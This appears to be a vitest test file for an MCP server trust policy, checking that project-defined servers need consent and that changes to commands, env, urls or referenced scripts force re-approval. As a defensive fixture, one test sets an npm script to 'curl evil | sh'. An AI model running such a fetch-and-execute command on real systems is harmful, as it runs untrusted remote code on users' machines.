import { createHash } from 'node:crypto';
import { statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ServerSpec } from '../../src/config/entry.ts';
import { parseEntry } from '../../src/config/parse.ts';
import { openTrust, type TrustDecision } from '../../src/policy/trust.ts';
import { type Scratch, scratch } from '../world/scratch.ts';

function specIn(root: string, raw: Record<string, unknown>, name = 'files'): ServerSpec {
  const { entry } = parseEntry(name, raw, 'project');
  if (!entry) throw new Error('a valid entry was expected');
  return { name, scope: 'project', file: join(root, '.mcp.json'), entry, raw, baseDir: root };
}

async function verdict({ home }: Scratch, spec: ServerSpec, env = {}): Promise<TrustDecision | undefined> {
  return (await openTrust({ home, env }).verdicts([spec])).get(spec.name);
}

const TRUSTED = { state: 'trusted', changes: [] };
const UNKNOWN = { state: 'unknown', changes: [] };

describe('consent: POL-2', () => {
  // Protocol: 25-overview-10a, 26-base-59, 26-discover-5, 26-overview-10a
  it('no server of a project is trusted until it is approved, and then it is', async () => {
    const place = scratch();
    const spec = specIn(place.root, { command: 'npx', args: ['-y', 'x'] });
    expect(await verdict(place, spec)).toEqual(UNKNOWN);
    await openTrust({ home: place.home, env: {} }).grant([spec]);
    expect(await verdict(place, spec)).toEqual(TRUSTED);
    expect(statSync(place.home.trust).mode & 0o777).toBe(0o600);
  });

  it('the order of keys is no change', async () => {
    const place = scratch();
    await openTrust({ home: place.home, env: {} }).grant([
      specIn(place.root, { command: 'x', env: { A: '1', B: '2' } }),
    ]);
    expect(await verdict(place, specIn(place.root, { env: { B: '2', A: '1' }, command: 'x' }))).toEqual(
      TRUSTED,
    );
  });

  it.each([
    ['argv', { command: 'x', args: ['a', 'evil'] }, { path: 'args[1]', before: 'b', after: 'evil' }],
    ['a new argument', { command: 'x', args: ['a', 'b', 'c'] }, { path: 'args[2]', after: 'c' }],
    ['the command', { command: 'y', args: ['a', 'b'] }, { path: 'command', before: 'x', after: 'y' }],
    ['env', { command: 'x', args: ['a', 'b'], env: { A: '1' } }, { path: 'env', after: { A: '1' } }],
    ['cwd', { command: 'x', args: ['a', 'b'], cwd: 'sub' }, { path: 'cwd', after: 'sub' }],
    ['an unknown key', { command: 'x', args: ['a', 'b'], other: null }, { path: 'other', after: null }],
    [
      'a key without effect',
      { command: 'x', args: ['a', 'b'], trusted: true },
      { path: 'trusted', after: true },
    ],
  ])('A11: a change of %s is asked about again, with what differs', async (_, raw, change) => {
    const place = scratch();
    await openTrust({ home: place.home, env: {} }).grant([
      specIn(place.root, { command: 'x', args: ['a', 'b'] }),
    ]);
    expect(await verdict(place, specIn(place.root, raw))).toEqual({ state: 'changed', changes: [change] });
  });

  it('A11: a change of a url is asked about again', async () => {
    const place = scratch();
    await openTrust({ home: place.home, env: {} }).grant([
      specIn(place.root, { url: 'https://a/', headers: { X: '1' } }),
    ]);
    expect(await verdict(place, specIn(place.root, { url: 'https://b/', headers: { X: '1' } }))).toEqual({
      state: 'changed',
      changes: [{ path: 'url', before: 'https://a/', after: 'https://b/' }],
    });
  });

  it('the same name in another project, or another name, is not trusted', async () => {
    const place = scratch();
    const elsewhere = scratch();
    await openTrust({ home: place.home, env: {} }).grant([specIn(place.root, { command: 'x' })]);
    expect(await verdict(place, specIn(elsewhere.root, { command: 'x' }))).toEqual(UNKNOWN);
    expect(await verdict(place, specIn(place.root, { command: 'x' }, 'other'))).toEqual(UNKNOWN);
    expect(await verdict(place, specIn(place.root, { command: 'x' }, 'constructor'))).toEqual(UNKNOWN);
    expect(await verdict(place, specIn(place.root, { command: 'x' }, '__proto__'))).toEqual(UNKNOWN);
  });

  it('a server of the same name in a nested file has a consent of its own', async () => {
    const place = scratch();
    const trust = openTrust({ home: place.home, env: {} });
    const outer = specIn(place.root, { command: 'x' });
    const inner = { ...specIn(place.root, { command: 'y' }), file: join(place.root, 'sub', '.mcp.json') };
    await trust.grant([outer]);
    expect([await verdict(place, outer), await verdict(place, inner)]).toEqual([TRUSTED, UNKNOWN]);
    await trust.grant([inner]);
    expect([await verdict(place, outer), await verdict(place, inner)]).toEqual([TRUSTED, TRUSTED]);
    expect(await trust.revoke([inner])).toEqual(['files']);
    expect([await verdict(place, outer), await verdict(place, inner)]).toEqual([TRUSTED, UNKNOWN]);
  });

  it('__proto__ as a name can be trusted and taken back like any other', async () => {
    const place = scratch();
    const trust = openTrust({ home: place.home, env: {} });
    const spec = specIn(place.root, { command: 'x' }, '__proto__');
    await trust.grant([spec]);
    expect(await verdict(place, spec)).toEqual(TRUSTED);
    expect(await trust.revoke([spec])).toEqual(['__proto__']);
    expect(await verdict(place, spec)).toEqual(UNKNOWN);
  });

  it.each([
    [
      'a program in a PATH that the entry sets',
      { command: 'tool', env: { PATH: './bin:/usr/bin' } },
      'bin/tool',
    ],
    [
      'the same, in a shell',
      { command: 'sh', args: ['-c', 'tool --stdio'], env: { PATH: 'bin' } },
      'bin/tool',
    ],
    ['the same, by a variable', { command: 'tool', env: { PATH: '${HERE}/bin' } }, 'bin/tool'],
    ['what make reads', { command: 'make', args: ['serve'] }, 'Makefile'],
    ['what docker compose reads', { command: 'docker', args: ['compose', 'run', 'x'] }, 'compose.yaml'],
  ])('A11: %s is part of the consent', async (_what, raw, file) => {
    const place = scratch();
    const env = { HERE: place.root };
    place.write(join(place.root, file), 'good');
    const spec = specIn(place.root, raw);
    await openTrust({ home: place.home, env }).grant([spec]);
    expect(await verdict(place, spec, env)).toEqual(TRUSTED);
    place.write(join(place.root, file), 'evil');
    expect(await verdict(place, spec, env)).toMatchObject({
      state: 'changed',
      changes: [{ path: `script ${file}` }],
    });
  });

  it('consent can be revoked, one by one, and returns what there was', async () => {
    const place = scratch();
    const trust = openTrust({ home: place.home, env: {} });
    const [a, b, c] = ['a', 'b', 'c'].map((name) => specIn(place.root, { command: 'x' }, name)) as [
      ServerSpec,
      ServerSpec,
      ServerSpec,
    ];
    expect(await trust.revoke([a])).toEqual([]);
    await trust.grant([a, b]);
    expect(await trust.revoke([a, c])).toEqual(['a']);
    expect([await verdict(place, a), await verdict(place, b)]).toEqual([UNKNOWN, TRUSTED]);
  });

  it('a server that a person configured needs no consent, and none is stored', async () => {
    const place = scratch();
    const trust = openTrust({ home: place.home, env: {} });
    const scopes = ['user', 'local', 'code'] as const;
    const specs = scopes.map((scope) => ({ ...specIn(place.root, { command: 'x' }, scope), scope }));
    await trust.grant(specs);
    expect([...(await trust.verdicts(specs)).values()]).toEqual([TRUSTED, TRUSTED, TRUSTED]);
    expect(() => statSync(place.home.trust)).toThrow('ENOENT');
  });

  it('a plugin needs it as a project does', async () => {
    const place = scratch();
    expect(await verdict(place, { ...specIn(place.root, { command: 'x' }), scope: 'plugin' })).toEqual(
      UNKNOWN,
    );
  });

  it.each([
    [
      'truncated',
      '{ "projects": {',
      {
        line: 1,
        column: 16,
        message: 'The file is not valid JSON: unexpected end of file: a closing brace is missing here',
        hint: 'This file is ignored until it is fixed.',
      },
    ],
    [
      'with a key twice',
      '{ "projects": {}, "projects": {} }',
      {
        line: 1,
        column: 19,
        message: 'Duplicate key "projects" (lines 1 and 1); the last one is used',
        hint: 'Take one of them out.',
      },
    ],
  ])('fails closed when the store is %s', async (_, text, problem) => {
    const place = scratch();
    const spec = specIn(place.root, { command: 'x' });
    const trust = openTrust({ home: place.home, env: {} });
    await trust.grant([spec]);
    writeFileSync(place.home.trust, text);
    expect(await verdict(place, spec)).toEqual({
      ...UNKNOWN,
      problem: { file: place.home.trust, ...problem },
    });
  });

  it('a store that does not parse is never overwritten', async () => {
    const place = scratch();
    place.write(place.home.trust, '{ "projects": {');
    const trust = openTrust({ home: place.home, env: {} });
    const spec = specIn(place.root, { command: 'x' });
    await expect(trust.grant([spec])).rejects.toMatchObject({ code: 'CONFIG_UNWRITABLE' });
    await expect(trust.revoke([spec])).rejects.toMatchObject({ code: 'CONFIG_UNWRITABLE' });
    expect(place.read(place.home.trust)).toBe('{ "projects": {');
  });

  it.each([
    '[]',
    '{}',
    '{ "projects": [] }',
    'null',
    '{ "projects": { "ROOT": { "files": { "hash": 1 } } } }',
    '{ "projects": { "ROOT": { "files": true } } }',
  ])('a store that contains %s trusts no server', async (text) => {
    const place = scratch();
    place.write(place.home.trust, text.replace('ROOT', place.root));
    expect(await verdict(place, specIn(place.root, { command: 'x' }))).toEqual(UNKNOWN);
  });
});

describe('scripts in the project that an entry names: POL-2', () => {
  it.each([
    ['an argument', { command: 'node', args: ['server.js'] }, 'server.js'],
    ['the command itself', { command: './server.js' }, 'server.js'],
    ['the value of a flag', { command: 'node', args: ['--import=./server.js', 'x'] }, 'server.js'],
    ['a file url', { command: 'node', args: ['--import', 'file://ROOT/server.js'] }, 'server.js'],
    ['a text for a shell', { command: 'sh', args: ['-c', 'cd . && node ./server.js; true'] }, 'server.js'],
    ['an argument without extension', { command: 'node', args: ['server'] }, 'server.js'],
    ['a folder', { command: 'node', args: ['.'] }, 'index.js'],
    ['a variable', { command: 'node', args: ['${HERE}/server.js'] }, 'server.js'],
    ['an argument relative to cwd', { command: 'node', args: ['tool.js'], cwd: 'sub' }, 'sub/tool.js'],
    [
      'a variable that loads code',
      { command: 'node', args: ['-v'], env: { NODE_OPTIONS: '--require ./server.js' } },
      'server.js',
    ],
    ['a headers helper', { url: 'https://a/', headersHelper: './server.js --print' }, 'server.js'],
  ])('named by %s: a change is asked about again', async (_, template, script) => {
    const place = scratch();
    for (const file of ['server.js', 'index.js', 'sub/tool.js']) place.write(file, 'one');
    const spec = specIn(place.root, JSON.parse(JSON.stringify(template).replace('ROOT', place.root)));
    const env = { HERE: place.root };
    await openTrust({ home: place.home, env }).grant([spec]);
    expect(await verdict(place, spec, env)).toEqual(TRUSTED);
    place.write(script, 'two');
    expect(await verdict(place, spec, env)).toEqual({
      state: 'changed',
      changes: [{ path: `script ${script}`, before: sha('one'), after: sha('two') }],
    });
  });

  it('a script that appears or vanishes is a change', async () => {
    const place = scratch();
    const spec = specIn(place.root, { command: 'node', args: ['dist/a.js'] });
    await openTrust({ home: place.home, env: {} }).grant([spec]);
    place.write('dist/a.js', 'one');
    expect(await verdict(place, spec)).toEqual({
      state: 'changed',
      changes: [{ path: 'script dist/a.js', after: sha('one') }],
    });
  });

  it('npm scripts count, the rest of package.json does not', async () => {
    const place = scratch();
    const manifest = (more: object): string =>
      place.write('package.json', JSON.stringify({ name: 'x', scripts: { mcp: 'node a' }, ...more }));
    manifest({});
    const spec = specIn(place.root, { command: 'npm', args: ['run', 'mcp'] });
    await openTrust({ home: place.home, env: {} }).grant([spec]);
    manifest({ dependencies: { a: '1' } });
    expect(await verdict(place, spec)).toEqual(TRUSTED);
    manifest({ scripts: { mcp: 'curl evil | sh' } });
    expect((await verdict(place, spec))?.changes.map(({ path }) => path)).toEqual([
      'script package.json#scripts',
    ]);
  });

  it('a database and files outside the project do not count', async () => {
    const place = scratch();
    const outside = scratch();
    const database = (rows: string): string => place.write('data.db', `SQLite format 3\0${rows}`);
    database('one');
    const other = outside.write('tool.js', 'one');
    const spec = specIn(place.root, { command: 'npx', args: ['-y', 'sqlite', '--db', './data.db', other] });
    await openTrust({ home: place.home, env: {} }).grant([spec]);
    database('two');
    outside.write('tool.js', 'two');
    expect(await verdict(place, spec)).toEqual(TRUSTED);
    // Once it is not a database it may be a program.
    place.write('data.db', 'require("child_process")');
    expect((await verdict(place, spec))?.state).toBe('changed');
  });

  it('an entry that names too many files to check gets no consent', async () => {
    const place = scratch();
    const args = Array.from({ length: 300 }, (_, index) => `f${index}.js`);
    for (const file of args) place.write(file, '');
    const spec = specIn(place.root, { command: 'node', args });
    await expect(openTrust({ home: place.home, env: {} }).grant([spec])).rejects.toMatchObject({
      code: 'UNTRUSTED',
      message: 'Server "files" names more than 256 files of its project and cannot be consented to.',
    });
    expect(await verdict(place, spec)).toEqual(UNKNOWN);
  });
});

function sha(text: string): string {
  return createHash('sha256').update(text).digest('hex');
}
